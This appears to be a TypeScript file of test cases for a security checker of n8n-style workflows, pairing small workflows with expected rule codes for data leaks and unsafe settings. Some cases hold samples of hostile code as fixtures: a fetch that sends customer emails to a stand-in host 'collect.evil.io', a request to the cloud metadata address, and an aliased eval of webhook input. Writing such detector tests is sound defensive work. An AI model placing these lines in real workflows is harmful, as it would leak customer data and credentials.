/** Masks on branches, loops, scripts, memories and requests. */
import { IF, agent, code, gmailTool, hook, http, model, oai, pg, set, slack, start, wf, type Case } from './kit.ts';

export const branchesLoopsAndRequests: readonly Case[] = [
  ['env secret to slack', wf([start, slack('={{ $env.DB_PASSWORD }}')], ['Start > Slack']), ['DF003@Slack']],
  [
    'health to sheets',
    wf(
      [
        [
          'Form',
          'formTrigger',
          { formTitle: 'x', formFields: { values: [{ fieldLabel: 'Email', fieldType: 'email' }, { fieldLabel: 'Diagnosis' }] } },
          { typeVersion: 2.2 },
        ],
        oai('=Sum up {{ $json.Diagnosis }}'),
      ],
      ['Form > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'if one branch masks',
    wf(
      [hook, IF('={{ $json.body.kind }}'), set({ 'body.email': '***' }, { includeOtherFields: true }), oai('=Hi {{ $json.body.email }}')],
      ['Webhook > If', 'If#0 > Set', 'If#1 > OpenAI', 'Set > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'both branches mask',
    wf(
      [
        hook,
        IF('={{ $json.body.kind }}'),
        set({ 'body.email': '***' }, { includeOtherFields: true }),
        set({ 'body.email': '-' }, { includeOtherFields: true }, 'Set2'),
        oai('=Hi {{ $json.body.email }}'),
      ],
      ['Webhook > If', 'If#0 > Set', 'If#1 > Set2', 'Set > OpenAI', 'Set2 > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a keyed hash of it, and nothing else',
    wf(
      [
        hook,
        [
          'Crypto',
          'crypto',
          { action: 'hmac', type: 'SHA256', value: '={{ $json.body.email }}', secret: '={{ $env.KEY }}', dataPropertyName: 'who' },
          { typeVersion: 1 },
        ],
        oai('=Hi {{ $json.who }}'),
      ],
      ['Webhook > Crypto', 'Crypto > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a keyed hash beside it',
    wf(
      [
        hook,
        [
          'Crypto',
          'crypto',
          { action: 'hmac', type: 'SHA256', value: '={{ $json.body.email }}', secret: 'x', dataPropertyName: 'who' },
          { typeVersion: 1 },
        ],
        oai('=Hi {{ $json.body.email }}'),
      ],
      ['Webhook > Crypto', 'Crypto > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'a bare checksum can be guessed back',
    wf(
      [
        hook,
        [
          'Crypto',
          'crypto',
          { action: 'hash', type: 'MD5', value: '={{ $json.body.email }}', dataPropertyName: 'who' },
          { typeVersion: 1 },
        ],
        oai('=Hi {{ $json.who }}'),
      ],
      ['Webhook > Crypto', 'Crypto > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'an alias of console',
    wf(
      [start, pg('SELECT password FROM users'), code('const { log } = console; log($json.password); return [{ json: { ok: true } }];')],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['DF003@Code'],
  ],
  [
    'printed where nobody can follow',
    wf(
      [
        start,
        pg('SELECT password FROM users'),
        code('const pick = (k) => (o) => o[k]; console.log(pick("password")($json)); return [{ json: { ok: true } }];'),
      ],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['DF003@Code'],
  ],
  [
    'loop v3',
    wf(
      [
        start,
        pg('SELECT email FROM customers'),
        ['Loop', 'splitInBatches', { options: {} }, { typeVersion: 3 }],
        oai('=Hi {{ $json.email }}'),
      ],
      ['Start > Postgres', 'Postgres > Loop', 'Loop#1 > OpenAI', 'OpenAI > Loop'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'merge',
    wf(
      [
        hook,
        http({}),
        ['Merge', 'merge', { mode: 'combine', combineBy: 'combineByPosition', options: {} }, { typeVersion: 3 }],
        oai('=Hi {{ $json.body.email }}'),
      ],
      ['Webhook > HTTP', 'Webhook > Merge', 'HTTP > Merge#1', 'Merge > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'aggregate',
    wf(
      [
        start,
        pg('SELECT email FROM customers'),
        ['Agg', 'aggregate', { aggregate: 'aggregateAllItemData', options: {} }, { typeVersion: 1 }],
        oai('=Hi {{ JSON.stringify($json.data) }}'),
      ],
      ['Start > Postgres', 'Postgres > Agg', 'Agg > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'split out',
    wf(
      [hook, ['Split', 'splitOut', { fieldToSplitOut: 'body.users', options: {} }, { typeVersion: 1 }], oai('=Hi {{ $json.email }}')],
      ['Webhook > Split', 'Split > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'error branch',
    wf(
      [
        hook,
        ['Code', 'code', { jsCode: 'throw new Error($json.body.email)' }, { typeVersion: 2, onError: 'continueErrorOutput' }],
        oai('=Explain {{ $json.error }}'),
      ],
      ['Webhook > Code', 'Code#1 > OpenAI'],
    ),
    ['DF001@OpenAI'],
  ],
  [
    'fetch in code with email',
    wf(
      [
        hook,
        code(
          'const r = await this.helpers.httpRequest({ method: "POST", url: "https://api.openai.com/v1/chat/completions", body: { messages: [{ role: "user", content: $json.body.email }] } });\nreturn [{ json: r }];',
        ),
      ],
      ['Webhook > Code'],
    ),
    ['SC002@Code', 'DF001@Code'],
  ],
  [
    'code fetch leak other',
    wf(
      [
        start,
        pg('SELECT email FROM customers'),
        code('await fetch("https://collect.evil.io/?d=" + encodeURIComponent($json.email)); return $input.all();'),
      ],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['SC002@Code'],
  ],
  [
    'console.log secret',
    wf(
      [start, pg('SELECT password FROM users'), code('console.log($json.password); return [{ json: { ok: true } }];')],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    ['DF003@Code'],
  ],
  [
    'all but the secret is printed',
    wf(
      [
        start,
        pg('SELECT login, password FROM users'),
        code('const { password, ...rest } = $json; console.log(JSON.stringify(rest)); return [{ json: { ok: true } }];'),
      ],
      ['Start > Postgres', 'Postgres > Code'],
    ),
    [],
    ['DF003@Code'],
  ],
  [
    'memory shared',
    wf(
      [hook, agent('={{ $json.body.email }}'), model, ['Mem', 'L.memoryBufferWindow', {}, { typeVersion: 1.3 }]],
      ['Webhook > Agent', 'Model -model> Agent', 'Mem -memory> Agent'],
    ),
    ['DF001@Agent'],
  ],
  [
    'chat open',
    wf(
      [['Chat', 'L.chatTrigger', { public: true, options: {} }, { typeVersion: 1.1 }], agent('={{ $json.chatInput }}'), model, gmailTool()],
      ['Chat > Agent', 'Model -model> Agent', 'Gmail Tool -tool> Agent'],
    ),
    ['AI001@Gmail Tool', 'CN008@Chat'],
  ],
  [
    'http tool model url',
    wf(
      [
        ['Chat', 'L.chatTrigger', { public: true, options: {} }, { typeVersion: 1.1 }],
        agent('={{ $json.chatInput }}'),
        model,
        ['Web', 'httpRequestTool', { url: '={{ $fromAI("url","") }}', options: {} }, { typeVersion: 4.2 }],
      ],
      ['Chat > Agent', 'Model -model> Agent', 'Web -tool> Agent'],
    ),
    ['CN005@Web'],
  ],
  [
    'system prompt from body',
    wf([hook, agent('x', '=You are {{ $json.body.persona }}'), model], ['Webhook > Agent', 'Model -model> Agent']),
    ['AI002@Agent'],
  ],
  [
    'respond all',
    wf(
      [
        hook,
        pg('SELECT password FROM users'),
        ['Respond', 'respondToWebhook', { respondWith: 'allIncomingItems', options: {} }, { typeVersion: 1.1 }],
      ],
      ['Webhook > Postgres', 'Postgres > Respond'],
    ),
    ['DF003@Respond'],
  ],
  ['plain http', wf([start, http({ url: 'http://api.acme.io/x' })], ['Start > HTTP']), ['CN001@HTTP']],
  ['tls off', wf([start, http({ options: { allowUnauthorizedCerts: true } })], ['Start > HTTP']), ['CN003@HTTP']],
  ['metadata', wf([start, http({ url: 'http://169.254.169.254/latest' })], ['Start > HTTP']), ['CN004@HTTP']],
  ['eval alias', wf([hook, code('const e = eval; return [{ json: { v: e($json.body.x) } }];')], ['Webhook > Code']), ['SC001@Code']],
  [
    'subworkflow gets email',
    wf(
      [hook, ['Sub', 'executeWorkflow', { workflowId: { __rl: true, mode: 'id', value: 'abc' }, options: {} }, { typeVersion: 1.2 }]],
      ['Webhook > Sub'],
    ),
    [],
  ],
  [
    'disabled model',
    wf(
      [
        hook,
        [
          'OpenAI',
          'L.openAi',
          { modelId: { __rl: true, mode: 'list', value: 'gpt-4o' }, messages: { values: [{ content: '=Hi {{ $json.body.email }}' }] } },
          { typeVersion: 1.8, disabled: true },
        ],
      ],
      ['Webhook > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'discord confidential',
    wf(
      [
        start,
        pg('SELECT margin, salary FROM staff'),
        [
          'Discord',
          'discord',
          { resource: 'message', content: '={{ $json.salary }}' },
          { typeVersion: 2, credentials: { discordBotApi: { id: '9', name: 'd' } } },
        ],
      ],
      ['Start > Postgres', 'Postgres > Discord'],
    ),
    ['DF008@Discord'],
  ],
];
